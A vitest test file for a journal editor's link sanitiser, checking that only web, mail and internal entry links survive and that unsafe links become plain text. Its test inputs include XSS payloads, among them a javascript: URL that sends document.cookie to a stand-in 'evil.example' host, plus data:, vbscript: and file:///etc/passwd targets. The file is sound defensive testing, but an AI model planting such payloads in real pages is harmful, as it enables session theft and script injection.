// The one rule for link targets in stored editor content: only http, https, mailto and links to
// another entry stay links; any other target becomes its text, wherever it sits in the body.
import { describe, expect, it } from 'vitest';
import {
  entryIdFromLink,
  entryLinkUrl,
  isEntryId,
} from '../../../src-main/shared/journal/entryLinks';
import { isSafeLinkTarget, safeBody } from '../../../src-main/shared/journal/safeLinks';

const text = (t: string) => ({
  type: 'text',
  version: 1,
  text: t,
  format: 0,
  detail: 0,
  mode: 'normal',
  style: '',
});
const link = (url: unknown, children: unknown[], type = 'link') => ({
  type,
  version: 1,
  url,
  children,
});
const para = (children: unknown[]) => ({ type: 'paragraph', version: 1, children });
const body = (children: unknown[]) =>
  JSON.stringify({ root: { type: 'root', version: 1, children } });

/** The link urls left in a body, and its text in reading order. */
function read(json: string): { urls: unknown[]; text: string } {
  const urls: unknown[] = [];
  let all = '';
  const walk = (n: { type?: unknown; url?: unknown; text?: unknown; children?: unknown }) => {
    if (n.type === 'link' || n.type === 'autolink') urls.push(n.url);
    if (typeof n.text === 'string') all += n.text;
    if (Array.isArray(n.children)) for (const c of n.children as object[]) walk(c);
  };
  walk((JSON.parse(json) as { root: object }).root);
  return { urls, text: all };
}

describe('isSafeLinkTarget', () => {
  it('keeps web and mail links', () => {
    for (const url of [
      'https://example.com/a?b=1',
      'http://example.com',
      'mailto:boss@example.com',
      'HTTPS://EXAMPLE.COM',
    ]) {
      expect(isSafeLinkTarget(url), url).toBe(true);
    }
  });

  it('refuses scripts, data, files and other schemes, even when they mention https:', () => {
    for (const url of [
      'javascript:alert(1)',
      "javascript:fetch('https://evil.example/?'+document.cookie)",
      'data:text/html,<script>alert(1)</script>',
      'data:text/html;https://x',
      'file:///etc/passwd',
      'ftp://example.com/file',
      'vbscript:msgbox(1)',
      'ladder:settings',
    ]) {
      expect(isSafeLinkTarget(url), url).toBe(false);
    }
  });

  it('refuses what is not a url at all', () => {
    for (const url of ['', 'not a url', '//example.com', 'example.com'])
      expect(isSafeLinkTarget(url), url).toBe(false);
  });

  it('keeps links to another entry, with ids of up to 64 letters, digits, - and _', () => {
    expect(isSafeLinkTarget(entryLinkUrl('md-0a_B'))).toBe(true);
    expect(isEntryId('a'.repeat(64))).toBe(true);
    expect(isEntryId('a'.repeat(65))).toBe(false);
    expect(isEntryId('')).toBe(false);
    expect(isEntryId('a.b')).toBe(false);
    expect(entryIdFromLink(`ladder:entry/${'z'.repeat(64)}`)).toBe('z'.repeat(64));
  });
});

describe('safeBody', () => {
  it('an empty body, and a body without unsafe links, come back byte for byte', () => {
    expect(safeBody('')).toBe('');
    // Spacing JSON.stringify would not write: proof that the text is returned, not re-serialised.
    const spaced = body([
      para([
        text('a '),
        link('https://example.com', [text('site')]),
        link(entryLinkUrl('e1'), [text('entry')]),
      ]),
    ]).replace(/,/g, ', ');
    expect(safeBody(spaced)).toBe(spaced);
  });

  it('an unsafe link becomes its text, in place, and safe links beside it stay', () => {
    const out = safeBody(
      body([
        para([
          text('see '),
          link('javascript:alert(1)', [text('here')]),
          text(' and '),
          link('https://example.com', [text('there')]),
        ]),
      ]),
    );
    expect(read(out)).toEqual({ urls: ['https://example.com'], text: 'see here and there' });
  });

  it('reaches links nested in lists and quotes, and autolinks too', () => {
    const nested = body([
      {
        type: 'list',
        version: 1,
        children: [
          { type: 'listitem', version: 1, children: [link('data:text/html,x', [text('one')])] },
        ],
      },
      {
        type: 'quote',
        version: 1,
        children: [link('file:///etc/passwd', [text('two')], 'autolink')],
      },
    ]);
    expect(read(safeBody(nested))).toEqual({ urls: [], text: 'onetwo' });
  });

  it('a target padded with spaces is judged on what is inside them', () => {
    expect(read(safeBody(body([para([link('  javascript:alert(1)', [text('x')])])]))).urls).toEqual(
      [],
    );
    const padded = body([para([link(' https://example.com ', [text('x')])])]);
    expect(safeBody(padded)).toBe(padded);
    const entry = body([para([link(` ${entryLinkUrl('e1')} `, [text('x')])])]);
    expect(safeBody(entry)).toBe(entry);
  });

  it('what replaces an unsafe link is exactly its children: no node added, and junk children dropped', () => {
    const out = safeBody(
      body([
        para([
          null,
          'junk',
          7,
          link('javascript:x', [text('a'), text('b')]),
          link('data:x', []),
          { type: 'autolink', version: 1, url: 'data:y' },
          text('c'),
        ]),
      ]),
    );
    const root = (JSON.parse(out) as { root: { children: { children: unknown[] }[] } }).root;
    expect(root.children[0]!.children).toEqual([text('a'), text('b'), text('c')]);
  });

  it('a hostile body nested thousands of levels deep is answered, not a stack overflow', () => {
    // Written as text: JSON.stringify of such an object would itself run out of stack.
    const levels = 20_000;
    const open = '{"type":"paragraph","version":1,"children":['.repeat(levels);
    const deep = `{"root":{"type":"root","version":1,"children":[${open}${JSON.stringify(text('deep'))}${']}'.repeat(levels)}]}}`;
    expect(safeBody(deep)).toBe(deep);
  });

  it('a link without a usable target, or without children, goes; its text (if any) stays', () => {
    const out = safeBody(
      body([
        para([
          link(42, [text('a')]),
          link(undefined, [text('b')]),
          { type: 'link', version: 1, url: 'javascript:x' },
          text('c'),
        ]),
      ]),
    );
    expect(read(out)).toEqual({ urls: [], text: 'abc' });
  });
});
